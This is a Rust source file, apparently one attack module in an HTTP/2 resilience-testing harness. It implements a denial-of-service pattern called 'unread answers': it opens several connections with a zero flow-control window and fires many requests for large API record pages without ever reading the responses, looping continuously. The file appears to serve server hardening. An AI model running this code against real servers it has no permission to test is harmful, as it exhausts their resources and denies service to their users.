//! Large answers that the client does not read, while it still answers pings.

use futures::future::{FutureExt as _, join_all};

use super::{Attack, RECORDS, SCHEMA, Target, hostile};

/// Connections, and answers on each.
const CONNECTIONS: usize = 3;
const STREAMS: usize = 190;

/// The attack.
pub const ATTACK: Attack = Attack { name: "unread answers", run: |target| run(target).boxed() };

async fn run(target: Target) -> anyhow::Result<()> {
    join_all((0..CONNECTIONS).map(|_| again_and_again(&target))).await;
    Ok(())
}

async fn again_and_again(target: &Target) {
    loop {
        // A window of nothing: the server may send no byte of an answer.
        if let Ok(sender) = hostile::connect_h2(target, 0).await {
            join_all((0..STREAMS).map(|_| ask(sender.clone(), target))).await;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

/// Asks for a large page and does not read it.
async fn ask(sender: h2::client::SendRequest<bytes::Bytes>, target: &Target) -> anyhow::Result<()> {
    let mut sender = sender.ready().await?;
    let uri =
        format!("http://{}/api/v1/schemas/{SCHEMA}/records?pageSize={RECORDS}", target.address);
    let (answer, _) = sender.send_request(http::Request::get(uri).body(())?, true)?;
    target.count(1);
    let mut answer = answer.await?;
    // Until the connection ends.
    answer.body_mut().data().await.transpose()?;
    Ok(())
}
